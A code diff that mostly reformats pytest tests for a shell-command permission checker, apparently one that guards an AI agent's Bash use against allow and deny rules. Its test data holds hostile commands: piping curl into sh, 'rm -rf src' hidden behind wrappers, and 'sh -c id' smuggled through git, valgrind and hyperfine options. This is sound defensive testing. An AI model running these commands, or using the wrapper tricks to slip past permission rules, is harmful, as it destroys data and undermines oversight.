@@ -11,8 +11,15 @@ from bot.shell.syntax import literal
 from bot.shell.wrappers import unwrap
 from tests.shell.conftest import Check
 
-INNER_OK = ["Bash(make test:*)", "Bash(grep:*)", "Bash(git status:*)", "Bash(pytest:*)", "Bash(echo:*)",
-            "Bash(eslint:*)", "Bash(apt-get install:*)"]
+INNER_OK = [
+    "Bash(make test:*)",
+    "Bash(grep:*)",
+    "Bash(git status:*)",
+    "Bash(pytest:*)",
+    "Bash(echo:*)",
+    "Bash(eslint:*)",
+    "Bash(apt-get install:*)",
+]
 
 CASES = [
     # find
@@ -70,8 +77,12 @@ CASES = [
     ("shell reading stdin", "curl example.com | sh", ["Bash(curl:*)", "Bash(sh:*)"], False),
     ("shell running a script file", "bash ./deploy.sh", ["Bash(bash:*)"], False),
     ("a script file spelled out", "bash ./deploy.sh", ["Bash(bash ./deploy.sh)"], True),
-    ("sh -c with $'...' (dash reads it otherwise)", "sh -c \"echo \\$'\\\\' ; rm -rf src # \\\\''\"",
-     ["Bash(sh -c:*)"], False),
+    (
+        "sh -c with $'...' (dash reads it otherwise)",
+        "sh -c \"echo \\$'\\\\' ; rm -rf src # \\\\''\"",
+        ["Bash(sh -c:*)"],
+        False,
+    ),
     ("dash -c with &>", "dash -c 'echo x &>/dev/null sh -c id'", ["Bash(dash:*)"], False),
     ("sh -c with POSIX syntax", "sh -c 'make test && echo ok'", [], True),
     ("bash -c with $'...'", "bash -c \"echo $'a\\tb'\"", [], True),
@@ -183,23 +194,34 @@ CASES = [
     ("valgrind shell", "valgrind --trace-children=yes sh -c id", ["Bash(valgrind:*)"], False),
     ("valgrind -- shell", "valgrind -- sh -c id", ["Bash(valgrind:*)"], False),
     ("valgrind --tool path runs a program", "valgrind --tool=../../../tmp/x make test", ["Bash(valgrind:*)"], False),
-    ("valgrind --db-command", "valgrind --db-attach=yes --db-command='sh -c id' make test", ["Bash(valgrind:*)"],
-     False),
+    (
+        "valgrind --db-command",
+        "valgrind --db-attach=yes --db-command='sh -c id' make test",
+        ["Bash(valgrind:*)"],
+        False,
+    ),
     ("valgrind --log-file into .git", "valgrind --log-file=.git/config make test", ["Bash(valgrind:*)"], False),
     # launchers running command strings
     ("hyperfine allowed scripts", "hyperfine --warmup 3 'make test' 'git status'", ["Bash(hyperfine:*)"], True),
     ("hyperfine needs its own rule (it writes exports)", "hyperfine 'make test'", [], False),
     ("hyperfine shell", "hyperfine sh -c id", ["Bash(hyperfine:*)"], False),
     ("hyperfine disallowed script", "hyperfine 'curl example.com | sh'", ["Bash(hyperfine:*)"], False),
-    ("hyperfine --prepare disallowed", "hyperfine --prepare 'curl example.com' 'make test'", ["Bash(hyperfine:*)"],
-     False),
+    (
+        "hyperfine --prepare disallowed",
+        "hyperfine --prepare 'curl example.com' 'make test'",
+        ["Bash(hyperfine:*)"],
+        False,
+    ),
     ("hyperfine -p= attached", "hyperfine -p='curl example.com' 'make test'", ["Bash(hyperfine:*)"], False),
-    ("hyperfine --conclude disallowed", "hyperfine --conclude='rm -rf src' 'make test'", ["Bash(hyperfine:*)"],
-     False),
+    ("hyperfine --conclude disallowed", "hyperfine --conclude='rm -rf src' 'make test'", ["Bash(hyperfine:*)"], False),
     ("hyperfine -L fills placeholders", "hyperfine -L x make,rm '{x} test'", ["Bash(hyperfine:*)"], False),
     ("hyperfine -S another shell", "hyperfine -S python 'make test'", ["Bash(hyperfine:*)"], False),
-    ("hyperfine --export-json into .git", "hyperfine --export-json .git/config 'make test'", ["Bash(hyperfine:*)"],
-     False),
+    (
+        "hyperfine --export-json into .git",
+        "hyperfine --export-json .git/config 'make test'",
+        ["Bash(hyperfine:*)"],
+        False,
+    ),
     ("hyperfine -N allowed", "hyperfine -N 'make test'", ["Bash(hyperfine:*)"], True),
     ("pee allowed", "echo x | pee 'grep x' 'make test'", [], True),
     ("pee shell", "echo x | pee 'grep x' 'sh -c id'", ["Bash(pee:*)"], False),
@@ -227,72 +249,99 @@ CASES = [
 
 
 @pytest.mark.parametrize(("description", "command", "allow", "allowed"), CASES)
-def test_a_wrapper_launches_a_command_judged_on_its_own(check: Check, description: str, command: str,
-                                                       allow: list[str], allowed: bool) -> None:
+def test_a_wrapper_launches_a_command_judged_on_its_own(
+    check: Check, description: str, command: str, allow: list[str], allowed: bool
+) -> None:
     result = check(command, allow=allow + INNER_OK)
     assert isinstance(result, Allow) is allowed, (description, result)
 
 
-@pytest.mark.parametrize(("description", "command"), [
-    ("env", "env rm -rf src"),
-    ("sudo", "sudo rm -rf src"),
-    ("watch", "watch rm -rf src"),
-    ("ionice", "ionice rm -rf src"),
-    ("setsid", "setsid rm -rf src"),
-    ("xargs", "ls | xargs rm -rf"),
-    ("find -delete", "find src -delete"),
-    ("bash -c", "bash -c 'rm -rf src'"),
-    ("strace", "strace -f rm -rf src"),
-    ("nested", "timeout 5 env nice rm -rf src"),
-    ("numactl", "numactl -C 0 rm -rf src"),
-    ("valgrind writing a log", "valgrind --log-file=vg.log rm -rf src"),
-    ("hyperfine", "hyperfine 'rm -rf src'"),
-    ("gosu", "gosu root rm -rf src"),
-    ("mpirun (opaque)", "mpirun -np 2 rm -rf src"),
-    ("rustup run (opaque)", "rustup run stable rm -rf src"),
-])
+@pytest.mark.parametrize(
+    ("description", "command"),
+    [
+        ("env", "env rm -rf src"),
+        ("sudo", "sudo rm -rf src"),
+        ("watch", "watch rm -rf src"),
+        ("ionice", "ionice rm -rf src"),
+        ("setsid", "setsid rm -rf src"),
+        ("xargs", "ls | xargs rm -rf"),
+        ("find -delete", "find src -delete"),
+        ("bash -c", "bash -c 'rm -rf src'"),
+        ("strace", "strace -f rm -rf src"),
+        ("nested", "timeout 5 env nice rm -rf src"),
+        ("numactl", "numactl -C 0 rm -rf src"),
+        ("valgrind writing a log", "valgrind --log-file=vg.log rm -rf src"),
+        ("hyperfine", "hyperfine 'rm -rf src'"),
+        ("gosu", "gosu root rm -rf src"),
+        ("mpirun (opaque)", "mpirun -np 2 rm -rf src"),
+        ("rustup run (opaque)", "rustup run stable rm -rf src"),
+    ],
+)
 def test_deny_rules_match_commands_behind_wrappers(check: Check, description: str, command: str) -> None:
     result = check(command, allow=["Bash"], deny=["Bash(rm:*)"])
     assert isinstance(result, Deny), (description, result)
     assert result.rule is not None and result.rule.text == "Bash(rm:*)"
 
 
-@pytest.mark.parametrize(("description", "argv", "kind", "inner"), [
-    ("timeout skips its duration", ["timeout", "-k", "5", "60", "make"], "transparent", ["make"]),
-    ("env skips assignments", ["env", "-i", "A=1", "make", "x"], "transparent", ["make", "x"]),
-    ("sudo skips its options", ["sudo", "-u", "bob", "-E", "make"], "privilege", ["make"]),
-    ("nice -n", ["nice", "-n", "5", "make"], "transparent", ["make"]),
-    ("nice --adj= abbreviation (red team round 3)", ["nice", "--adj=5", "make"], "transparent", ["make"]),
-    ("nice --adjustment VALUE", ["nice", "--adjustment", "5", "make"], "transparent", ["make"]),
-    ("nice -5 obsolete form", ["nice", "-5", "make"], "transparent", ["make"]),
-    ("nice --5 obsolete form", ["nice", "--5", "make"], "transparent", ["make"]),
-    ("nice -n-5 attached", ["nice", "-n-5", "-2", "make"], "transparent", ["make"]),
-    ("nice --", ["nice", "--", "make"], "transparent", ["make"]),
-    ("git send-pack is seen as git push", ["git", "-C", "x", "send-pack", "o", "m"], "view",
-     ["git", "-C", "x", "push", "o", "m"]),
-    ("git http-push", ["git", "http-push", "https://h/r", "m"], "view", ["git", "push", "https://h/r", "m"]),
-    ("git subtree push: the words keep their places", ["git", "subtree", "push", "-P", "x", "o", "m"],
-     "view", ["git", "push", "push", "-P", "x", "o", "m"]),
-    ("git subtree options before push", ["git", "subtree", "-P", "x", "push", "o", "m"], "view",
-     ["git", "push", "-P", "x", "push", "o", "m"]),
-    ("git lfs push", ["git", "lfs", "push", "--all", "o"], "view", ["git", "push", "push", "--all", "o"]),
-    ("git svn dcommit", ["git", "svn", "dcommit"], "view", ["git", "push", "dcommit"]),
-    ("git p4 submit", ["git", "p4", "submit"], "view", ["git", "push", "submit"]),
-    ("git remote-https (push commands on stdin)", ["git", "remote-https", "o", "https://h/r"], "view",
-     ["git", "push", "o", "https://h/r"]),
-    ("git-X is git X", ["/usr/lib/git-core/git-push", "o", "m"], "view", ["git", "push", "o", "m"]),
-    ("git-X without a path", ["git-send-pack", "o"], "view", ["git", "send-pack", "o"]),
-    ("hub is git", ["hub", "-C", "x", "push", "o"], "view", ["git", "-C", "x", "push", "o"]),
-    ("xargs appends stdin", ["xargs", "-0", "rm"], "exec_each", ["rm", "\ue000"]),
-    ("xargs -a in a bundle takes a value", ["xargs", "-0a", "list", "rm"], "exec_each", ["rm", "\ue000"]),
-    ("xargs -I attached", ["xargs", "-I{}", "cp", "{}", "x"], "exec_each", ["cp", "\ue000", "x"]),
-    ("xargs --arg-file abbreviated", ["xargs", "--arg", "list", "rm"], "exec_each", ["rm", "\ue000"]),
-    ("git rebase -fx", ["git", "rebase", "-fx", "make test", "HEAD~1"], "exec_each", []),
-    ("npm --yes exec", ["npm", "--yes", "exec", "--", "make"], "transparent", ["make"]),
-    ("uv --directory runs there", ["uv", "--directory", "src", "run", "make"], "transparent", ["make"]),
-    ("find -exec stops at ;", ["find", ".", "-exec", "grep", "x", "{}", ";", "-print"], "exec_each",
-     ["grep", "x", "{}"]),
-])
+@pytest.mark.parametrize(
+    ("description", "argv", "kind", "inner"),
+    [
+        ("timeout skips its duration", ["timeout", "-k", "5", "60", "make"], "transparent", ["make"]),
+        ("env skips assignments", ["env", "-i", "A=1", "make", "x"], "transparent", ["make", "x"]),
+        ("sudo skips its options", ["sudo", "-u", "bob", "-E", "make"], "privilege", ["make"]),
+        ("nice -n", ["nice", "-n", "5", "make"], "transparent", ["make"]),
+        ("nice --adj= abbreviation (red team round 3)", ["nice", "--adj=5", "make"], "transparent", ["make"]),
+        ("nice --adjustment VALUE", ["nice", "--adjustment", "5", "make"], "transparent", ["make"]),
+        ("nice -5 obsolete form", ["nice", "-5", "make"], "transparent", ["make"]),
+        ("nice --5 obsolete form", ["nice", "--5", "make"], "transparent", ["make"]),
+        ("nice -n-5 attached", ["nice", "-n-5", "-2", "make"], "transparent", ["make"]),
+        ("nice --", ["nice", "--", "make"], "transparent", ["make"]),
+        (
+            "git send-pack is seen as git push",
+            ["git", "-C", "x", "send-pack", "o", "m"],
+            "view",
+            ["git", "-C", "x", "push", "o", "m"],
+        ),
+        ("git http-push", ["git", "http-push", "https://h/r", "m"], "view", ["git", "push", "https://h/r", "m"]),
+        (
+            "git subtree push: the words keep their places",
+            ["git", "subtree", "push", "-P", "x", "o", "m"],
+            "view",
+            ["git", "push", "push", "-P", "x", "o", "m"],
+        ),
+        (
+            "git subtree options before push",
+            ["git", "subtree", "-P", "x", "push", "o", "m"],
+            "view",
+            ["git", "push", "-P", "x", "push", "o", "m"],
+        ),
+        ("git lfs push", ["git", "lfs", "push", "--all", "o"], "view", ["git", "push", "push", "--all", "o"]),
+        ("git svn dcommit", ["git", "svn", "dcommit"], "view", ["git", "push", "dcommit"]),
+        ("git p4 submit", ["git", "p4", "submit"], "view", ["git", "push", "submit"]),
+        (
+            "git remote-https (push commands on stdin)",
+            ["git", "remote-https", "o", "https://h/r"],
+            "view",
+            ["git", "push", "o", "https://h/r"],
+        ),
+        ("git-X is git X", ["/usr/lib/git-core/git-push", "o", "m"], "view", ["git", "push", "o", "m"]),
+        ("git-X without a path", ["git-send-pack", "o"], "view", ["git", "send-pack", "o"]),
+        ("hub is git", ["hub", "-C", "x", "push", "o"], "view", ["git", "-C", "x", "push", "o"]),
+        ("xargs appends stdin", ["xargs", "-0", "rm"], "exec_each", ["rm", "\ue000"]),
+        ("xargs -a in a bundle takes a value", ["xargs", "-0a", "list", "rm"], "exec_each", ["rm", "\ue000"]),
+        ("xargs -I attached", ["xargs", "-I{}", "cp", "{}", "x"], "exec_each", ["cp", "\ue000", "x"]),
+        ("xargs --arg-file abbreviated", ["xargs", "--arg", "list", "rm"], "exec_each", ["rm", "\ue000"]),
+        ("git rebase -fx", ["git", "rebase", "-fx", "make test", "HEAD~1"], "exec_each", []),
+        ("npm --yes exec", ["npm", "--yes", "exec", "--", "make"], "transparent", ["make"]),
+        ("uv --directory runs there", ["uv", "--directory", "src", "run", "make"], "transparent", ["make"]),
+        (
+            "find -exec stops at ;",
+            ["find", ".", "-exec", "grep", "x", "{}", ";", "-print"],
+            "exec_each",
+            ["grep", "x", "{}"],
+        ),
+    ],
+)
 def test_unwrap_finds_the_inner_command(description: str, argv: list[str], kind: str, inner: list[str]) -> None:
     found = unwrap([literal(a) for a in argv])
     assert found and found[0].kind == kind, description
@@ -300,10 +349,37 @@ def test_unwrap_finds_the_inner_command(description: str, argv: list[str], kind:
 
 
 #: Launchers whose command cannot be checked: only a rule that spells out the whole command.
-OPAQUE = ["mpirun", "mpiexec", "srun", "sem", "tsp", "cset", "likwid-pin", "hwloc-bind", "dbus-launch",
-          "proxychains", "proxychains4", "systemd-run", "dbus-run-session", "prlimit", "unbuffer", "faketime",
-          "catchsegv", "firejail", "bwrap", "nsenter", "unshare", "setpriv", "strace", "run0", "watchexec",
-          "envdir", "chpst", "setuidgid", "fakechroot"]
+OPAQUE = [
+    "mpirun",
+    "mpiexec",
+    "srun",
+    "sem",
+    "tsp",
+    "cset",
+    "likwid-pin",
+    "hwloc-bind",
+    "dbus-launch",
+    "proxychains",
+    "proxychains4",
+    "systemd-run",
+    "dbus-run-session",
+    "prlimit",
+    "unbuffer",
+    "faketime",
+    "catchsegv",
+    "firejail",
+    "bwrap",
+    "nsenter",
+    "unshare",
+    "setpriv",
+    "strace",
+    "run0",
+    "watchexec",
+    "envdir",
+    "chpst",
+    "setuidgid",
+    "fakechroot",
+]
 
 
 @pytest.mark.parametrize("program", OPAQUE)
@@ -317,25 +393,31 @@ def test_an_ordinary_program_has_no_inner_command() -> None:
     assert unwrap([literal("git"), literal("status")]) == []
 
 
-@pytest.mark.parametrize(("description", "argv"), [
-    ("nice: an option it does not know", ["nice", "--frob", "make"]),
-    ("nice: a letter it does not know", ["nice", "-x", "make"]),
-    ("git remote-ext runs a command", ["git", "remote-ext", "o", "sh -c id"]),
-    ("git remote-fd", ["git", "remote-fd", "o", "3"]),
-])
+@pytest.mark.parametrize(
+    ("description", "argv"),
+    [
+        ("nice: an option it does not know", ["nice", "--frob", "make"]),
+        ("nice: a letter it does not know", ["nice", "-x", "make"]),
+        ("git remote-ext runs a command", ["git", "remote-ext", "o", "sh -c id"]),
+        ("git remote-fd", ["git", "remote-fd", "o", "3"]),
+    ],
+)
 def test_an_unknown_launch_is_opaque(description: str, argv: list[str]) -> None:
     found = unwrap([literal(a) for a in argv])
     assert found and found[0].kind == "opaque", (description, found)
 
 
-@pytest.mark.parametrize(("description", "argv"), [
-    ("nice alone prints the niceness", ["nice"]),
-    ("nice --help", ["nice", "--help"]),
-    ("git subtree split", ["git", "subtree", "split", "--prefix=src", "--rejoin"]),
-    ("git lfs install", ["git", "lfs", "install"]),
-    ("git svn fetch", ["git", "svn", "fetch"]),
-    ("git-lfs is git lfs, which launches nothing more", ["git", "lfs", "ls-files"]),
-])
+@pytest.mark.parametrize(
+    ("description", "argv"),
+    [
+        ("nice alone prints the niceness", ["nice"]),
+        ("nice --help", ["nice", "--help"]),
+        ("git subtree split", ["git", "subtree", "split", "--prefix=src", "--rejoin"]),
+        ("git lfs install", ["git", "lfs", "install"]),
+        ("git svn fetch", ["git", "svn", "fetch"]),
+        ("git-lfs is git lfs, which launches nothing more", ["git", "lfs", "ls-files"]),
+    ],
+)
 def test_nothing_is_launched(description: str, argv: list[str]) -> None:
     assert unwrap([literal(a) for a in argv]) == [], description
 
@@ -362,12 +444,24 @@ GIT_PUSHES = [
 
 
 @pytest.mark.parametrize(("description", "command"), GIT_PUSHES)
-@pytest.mark.parametrize("allow", [["Bash(*)"], ["Bash(git:*)", "Bash(hub:*)", "Bash(git-lfs:*)",
-                                                   "Bash(/usr/lib/git-core/git-push:*)",
-                                                   "Bash(/usr/lib/git-core/git-send-pack:*)",
-                                                   "Bash(/usr/lib/git-core/git-subtree:*)", "Bash(timeout:*)"]])
-def test_a_deny_rule_for_git_push_holds_for_its_other_names(check: Check, description: str, command: str,
-                                                            allow: list[str]) -> None:
+@pytest.mark.parametrize(
+    "allow",
+    [
+        ["Bash(*)"],
+        [
+            "Bash(git:*)",
+            "Bash(hub:*)",
+            "Bash(git-lfs:*)",
+            "Bash(/usr/lib/git-core/git-push:*)",
+            "Bash(/usr/lib/git-core/git-send-pack:*)",
+            "Bash(/usr/lib/git-core/git-subtree:*)",
+            "Bash(timeout:*)",
+        ],
+    ],
+)
+def test_a_deny_rule_for_git_push_holds_for_its_other_names(
+    check: Check, description: str, command: str, allow: list[str]
+) -> None:
     result = check(command, allow=allow, deny=["Bash(git push:*)"])
     assert isinstance(result, Deny), (description, result)
 
@@ -378,39 +472,59 @@ def test_an_ask_rule_for_git_push_holds_for_its_other_names(check: Check, descri
     assert not isinstance(result, Allow), (description, result)
 
 
-@pytest.mark.parametrize(("description", "command", "allow"), [
-    ("git remote-ext runs a command", "git remote-ext origin 'sh -c id'", ["Bash(*)"]),
-    ("git-remote-ext by its path", "/usr/lib/git-core/git-remote-ext origin 'sh -c id'", ["Bash(*)"]),
-    ("git-X carries git's explicit options", "git-clone -u 'sh -c id' https://x/r", ["Bash(git-clone:*)"]),
-    ("hub carries git's explicit options", "hub -c core.pager='sh -c id' log", ["Bash(hub:*)"]),
-])
-def test_git_under_other_names_runs_what_git_would(check: Check, description: str, command: str,
-                                                  allow: list[str]) -> None:
+@pytest.mark.parametrize(
+    ("description", "command", "allow"),
+    [
+        ("git remote-ext runs a command", "git remote-ext origin 'sh -c id'", ["Bash(*)"]),
+        ("git-remote-ext by its path", "/usr/lib/git-core/git-remote-ext origin 'sh -c id'", ["Bash(*)"]),
+        ("git-X carries git's explicit options", "git-clone -u 'sh -c id' https://x/r", ["Bash(git-clone:*)"]),
+        ("hub carries git's explicit options", "hub -c core.pager='sh -c id' log", ["Bash(hub:*)"]),
+    ],
+)
+def test_git_under_other_names_runs_what_git_would(
+    check: Check, description: str, command: str, allow: list[str]
+) -> None:
     assert not isinstance(check(command, allow=allow, deny=["Bash(git push:*)"]), Allow), description
 
 
-@pytest.mark.parametrize(("description", "command", "allow"), [
-    ("git subtree split", "git subtree split --prefix=src --rejoin", ["Bash(git:*)"]),
-    ("git lfs install", "git lfs install", ["Bash(git:*)"]),
-    ("git-lfs ls-files", "git-lfs ls-files", ["Bash(git-lfs:*)"]),
-    ("git svn fetch", "git svn fetch", ["Bash(git:*)"]),
-    ("hub pr list", "hub pr list", ["Bash(hub:*)"]),
-])
-def test_git_under_other_names_is_allowed_by_its_rules(check: Check, description: str, command: str,
-                                                       allow: list[str]) -> None:
+@pytest.mark.parametrize(
+    ("description", "command", "allow"),
+    [
+        ("git subtree split", "git subtree split --prefix=src --rejoin", ["Bash(git:*)"]),
+        ("git lfs install", "git lfs install", ["Bash(git:*)"]),
+        ("git-lfs ls-files", "git-lfs ls-files", ["Bash(git-lfs:*)"]),
+        ("git svn fetch", "git svn fetch", ["Bash(git:*)"]),
+        ("hub pr list", "hub pr list", ["Bash(hub:*)"]),
+    ],
+)
+def test_git_under_other_names_is_allowed_by_its_rules(
+    check: Check, description: str, command: str, allow: list[str]
+) -> None:
     assert isinstance(check(command, allow=allow, deny=["Bash(git push:*)"]), Allow), description
 
 
-@pytest.mark.parametrize(("description", "command", "allow", "allowed"), [
-    ("git send-pack by its own rule", "git send-pack origin main", ["Bash(git send-pack:*)"], True),
-    ("git-push by its own rule", "/usr/lib/git-core/git-push origin main", ["Bash(/usr/lib/git-core/git-push:*)"],
-     True),
-    ("hub by its own rule", "hub api -X DELETE repos/o/r", ["Bash(hub:*)"], True),
-    ("a rule for the view does not approve git-push", "/usr/lib/git-core/git-push origin main",
-     ["Bash(git push:*)"], False),
-    ("a rule for git does not approve hub's own commands", "hub api -X DELETE repos/o/r", ["Bash(git:*)"], False),
-    ("a rule for git push does not approve git svn dcommit", "git svn dcommit", ["Bash(git push:*)"], False),
-])
-def test_a_view_is_approved_by_the_rule_for_the_command_as_written(check: Check, description: str, command: str,
-                                                                    allow: list[str], allowed: bool) -> None:
+@pytest.mark.parametrize(
+    ("description", "command", "allow", "allowed"),
+    [
+        ("git send-pack by its own rule", "git send-pack origin main", ["Bash(git send-pack:*)"], True),
+        (
+            "git-push by its own rule",
+            "/usr/lib/git-core/git-push origin main",
+            ["Bash(/usr/lib/git-core/git-push:*)"],
+            True,
+        ),
+        ("hub by its own rule", "hub api -X DELETE repos/o/r", ["Bash(hub:*)"], True),
+        (
+            "a rule for the view does not approve git-push",
+            "/usr/lib/git-core/git-push origin main",
+            ["Bash(git push:*)"],
+            False,
+        ),
+        ("a rule for git does not approve hub's own commands", "hub api -X DELETE repos/o/r", ["Bash(git:*)"], False),
+        ("a rule for git push does not approve git svn dcommit", "git svn dcommit", ["Bash(git push:*)"], False),
+    ],
+)
+def test_a_view_is_approved_by_the_rule_for_the_command_as_written(
+    check: Check, description: str, command: str, allow: list[str], allowed: bool
+) -> None:
     assert isinstance(check(command, allow=allow), Allow) is allowed, description
